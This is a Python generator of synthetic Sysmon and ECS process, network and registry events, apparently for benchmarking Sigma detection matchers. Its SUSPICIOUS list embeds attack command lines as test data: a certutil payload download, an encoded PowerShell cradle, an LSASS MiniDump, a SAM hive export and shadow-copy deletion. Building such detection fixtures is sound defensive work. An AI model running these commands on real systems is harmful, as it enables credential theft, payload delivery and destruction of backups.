#!/usr/bin/env python3
"""Deterministic generator of Sysmon- and ECS-shaped JSON events (NDJSON).

usage: gen_events.py {sysmon|sysmon-pc|ecs} COUNT [SEED] > events.ndjson

What a real stream looks like, and what this imitates:

* A Sysmon stream is mostly NOT process creation. With a common configuration
  (SwiftOnSecurity / olafhartong-style) image loads, network connections,
  file and registry events and DNS queries outnumber process creations by
  about 10 to 1. `sysmon` draws EventIDs with these weights:
  1 process create 7%, 3 network 14%, 5 process terminate 7%, 7 image load
  26%, 10 process access 8%, 11 file create 12%, 12/13 registry 6%/10%,
  22 DNS 10%. Each EventID has its own Sysmon field set (flat Sigma field
  names, as winlogbeat-style pipelines and rsigma read them).
* Parents and children are coherent (svchost.exe is started by
  services.exe, conhost.exe by a console program, Office by explorer.exe),
  so ordinary activity does not look like "svchost with an odd parent".
* Suspicious activity is rare: about 1 process creation in 400 is one of a
  handful of attack command lines (certutil download, encoded PowerShell,
  comsvcs MiniDump, reg save, vssadmin delete, whoami /priv). A benchmark
  where most events alert measures output, not matching.

`sysmon-pc` writes process creations only (EventID 1): every event meets
every process_creation rule, the worst case for a matcher that routes by log
source. `ecs` writes the same process creations as nested ECS documents
(`event.category: ["process"]`, `process.command_line`, ...).

The same COUNT and SEED always give the same bytes.
"""
import json
import random
import sys

SYS32 = "C:\\Windows\\System32\\"
# (image, command line, parents); `%d` in a command line is a random number.
PROCS = [
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", [SYS32 + "services.exe"]),
    (SYS32 + "svchost.exe", "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s EventLog", [SYS32 + "services.exe"]),
    (SYS32 + "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", [SYS32 + "cmd.exe", SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"]),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=%d', ["C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"]),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', ["C:\\Windows\\explorer.exe"]),
    ("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", ["C:\\Windows\\System32\\userinit.exe"]),
    (SYS32 + "cmd.exe", '"C:\\Windows\\system32\\cmd.exe" /c echo build step %d', ["C:\\Windows\\explorer.exe"]),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Date', ["C:\\Windows\\explorer.exe"]),
    ("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\u%d\\Documents\\report.docx"', ["C:\\Windows\\explorer.exe"]),
    (SYS32 + "taskhostw.exe", "taskhostw.exe", [SYS32 + "svchost.exe"]),
    (SYS32 + "RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", [SYS32 + "svchost.exe"]),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git status --porcelain", [SYS32 + "cmd.exe"]),
    (SYS32 + "msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", [SYS32 + "services.exe"]),
    (SYS32 + "wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", [SYS32 + "svchost.exe"]),
    (SYS32 + "backgroundTaskHost.exe", '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppX%d.mca', [SYS32 + "svchost.exe"]),
    ("C:\\Program Files\\Microsoft VS Code\\Code.exe", '"C:\\Program Files\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService', ["C:\\Program Files\\Microsoft VS Code\\Code.exe"]),
    (SYS32 + "SearchProtocolHost.exe", '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe%d', [SYS32 + "SearchIndexer.exe"]),
]
SUSPICIOUS = [
    (SYS32 + "certutil.exe", "certutil.exe -urlcache -split -f http://198.51.100.7/a.exe C:\\Users\\Public\\a.exe", SYS32 + "cmd.exe"),
    (SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", SYS32 + "cmd.exe"),
    (SYS32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full", SYS32 + "cmd.exe"),
    (SYS32 + "reg.exe", "reg.exe save HKLM\\SAM C:\\Temp\\sam.save", SYS32 + "cmd.exe"),
    (SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", SYS32 + "cmd.exe"),
    (SYS32 + "whoami.exe", "whoami.exe /priv", SYS32 + "cmd.exe"),
]
DLLS = ["ntdll.dll", "kernel32.dll", "KernelBase.dll", "user32.dll", "advapi32.dll", "combase.dll", "ole32.dll", "crypt32.dll", "ws2_32.dll", "bcrypt.dll"]
DOMAINS = ["www.google.com", "login.microsoftonline.com", "update.googleapis.com", "github.com", "teams.microsoft.com", "ctldl.windowsupdate.com", "wpad.corp.example"]
FILES = ["C:\\Users\\u%d\\AppData\\Local\\Temp\\tmp%d.tmp", "C:\\Users\\u%d\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\f_%06d", "C:\\Windows\\Prefetch\\APP-%d.pf", "C:\\Users\\u%d\\Documents\\notes-%d.txt"]
KEYS = ["HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\FileExts\\.txt%d", "HKU\\S-1-5-21-1-2-3-1%03d\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs", "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-1-2-3-1%03d"]
# (EventID, weight)
MIX = [(1, 7), (3, 14), (5, 7), (7, 26), (10, 8), (11, 12), (12, 6), (13, 10), (22, 10)]


def fill(s, rnd):
    while "%d" in s or "%06d" in s or "%03d" in s:
        for f in ("%06d", "%03d", "%d"):
            if f in s:
                s = s.replace(f, f % rnd.randrange(1000), 1)
    return s


def process(rnd):
    if rnd.random() < 0.0025:
        image, cmd, parent = rnd.choice(SUSPICIOUS)
    else:
        image, cmd, parents = rnd.choice(PROCS)
        parent = rnd.choice(parents)
    return image, fill(cmd, rnd), parent


def sysmon(eid, i, rnd):
    user = "CORP\\u%d" % rnd.randrange(500)
    host = "ws-%03d.corp.example" % rnd.randrange(200)
    pid = rnd.randrange(100, 65000)
    sec = 1_700_000_000 + i // 10
    ts = "2023-11-14 %02d:%02d:%02d.%03d" % ((sec // 3600) % 24, (sec // 60) % 60, sec % 60, i % 1000)
    guid = "{%08X-%04X-%04X-0000-%012X}" % (rnd.getrandbits(32), i % 65536, rnd.getrandbits(16), pid)
    ev = {
        "EventID": eid,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Provider_Name": "Microsoft-Windows-Sysmon",
        "Computer": host,
        "UtcTime": ts,
        "ProcessGuid": guid,
        "ProcessId": pid,
    }
    image, cmd, parent = process(rnd) if eid == 1 else (rnd.choice(PROCS)[0], None, None)
    if eid == 1:
        name = image.rsplit("\\", 1)[-1]
        ev.update({
            "Image": image,
            "FileVersion": "10.0.19041.1",
            "Description": name,
            "Product": "Microsoft Windows Operating System",
            "Company": "Microsoft Corporation",
            "OriginalFileName": name.upper(),
            "CommandLine": cmd,
            "CurrentDirectory": "C:\\Windows\\system32\\",
            "User": user,
            "LogonId": "0x%x" % rnd.getrandbits(24),
            "IntegrityLevel": rnd.choice(["Medium", "Medium", "High", "System"]),
            "Hashes": "SHA256=%064X" % rnd.getrandbits(256),
            "ParentProcessId": rnd.randrange(100, 65000),
            "ParentImage": parent,
            "ParentCommandLine": parent,
            "ParentUser": user,
        })
    elif eid == 3:
        ev.update({
            "Image": image, "User": user, "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": "10.1.%d.%d" % (rnd.randrange(256), rnd.randrange(256)),
            "SourcePort": rnd.randrange(49152, 65535), "DestinationIsIpv6": "false",
            "DestinationIp": "203.0.113.%d" % rnd.randrange(256), "DestinationHostname": rnd.choice(DOMAINS),
            "DestinationPort": rnd.choice([443, 443, 443, 80, 53]),
        })
    elif eid == 5:
        ev.update({"Image": image, "User": user})
    elif eid == 7:
        dll = rnd.choice(DLLS)
        ev.update({
            "Image": image, "ImageLoaded": SYS32 + dll, "FileVersion": "10.0.19041.1",
            "Description": dll, "Product": "Microsoft Windows Operating System", "Company": "Microsoft Corporation",
            "OriginalFileName": dll, "Hashes": "SHA256=%064X" % rnd.getrandbits(256), "Signed": "true",
            "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": user,
        })
    elif eid == 10:
        ev.update({
            "SourceImage": image, "TargetImage": rnd.choice(PROCS)[0], "GrantedAccess": rnd.choice(["0x1000", "0x1400", "0x101000"]),
            "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e",
            "SourceUser": user, "TargetUser": "NT AUTHORITY\\SYSTEM",
        })
    elif eid == 11:
        ev.update({"Image": image, "TargetFilename": fill(rnd.choice(FILES), rnd), "CreationUtcTime": ts, "User": user})
    elif eid in (12, 13):
        ev.update({"EventType": "CreateKey" if eid == 12 else "SetValue", "Image": image, "TargetObject": fill(rnd.choice(KEYS), rnd), "User": user})
        if eid == 13:
            ev["Details"] = "DWORD (0x%08x)" % rnd.getrandbits(16)
    elif eid == 22:
        ev.update({"QueryName": rnd.choice(DOMAINS), "QueryStatus": "0", "QueryResults": "type:  5 edge.example;::ffff:203.0.113.%d;" % rnd.randrange(256), "Image": image, "User": user})
    return ev


def ecs(i, rnd):
    image, cmd, parent = process(rnd)
    user = "u%d" % rnd.randrange(500)
    host = "ws-%03d.corp.example" % rnd.randrange(200)
    pid = rnd.randrange(100, 65000)
    sec = 1_700_000_000 + i // 10
    ts = "2023-11-14T%02d:%02d:%02d.%03dZ" % ((sec // 3600) % 24, (sec // 60) % 60, sec % 60, i % 1000)
    name = image.rsplit("\\", 1)[-1]
    return {
        "@timestamp": ts,
        "event": {"category": ["process"], "type": ["start"], "action": "start", "kind": "event"},
        "host": {"name": host, "os": {"family": "windows", "type": "windows"}},
        "user": {"name": user, "domain": "CORP"},
        "process": {
            "pid": pid,
            "entity_id": "{%08X-%04X-0000-%012X}" % (rnd.getrandbits(32), i % 65536, pid),
            "name": name,
            "executable": image,
            "command_line": cmd,
            "args": cmd.split(" "),
            "parent": {"name": parent.rsplit("\\", 1)[-1], "executable": parent},
            "pe": {"original_file_name": name.upper()},
        },
    }


def main():
    shape = sys.argv[1]
    n = int(sys.argv[2])
    rnd = random.Random(int(sys.argv[3]) if len(sys.argv) > 3 else 42)
    ids = [e for e, w in MIX for _ in range(w)]
    out = sys.stdout
    for i in range(n):
        if shape == "sysmon":
            ev = sysmon(rnd.choice(ids), i, rnd)
        elif shape == "sysmon-pc":
            ev = sysmon(1, i, rnd)
        elif shape == "ecs":
            ev = ecs(i, rnd)
        else:
            sys.exit("shape must be sysmon, sysmon-pc or ecs")
        out.write(json.dumps(ev, separators=(",", ":")))
        out.write("\n")


if __name__ == "__main__":
    main()
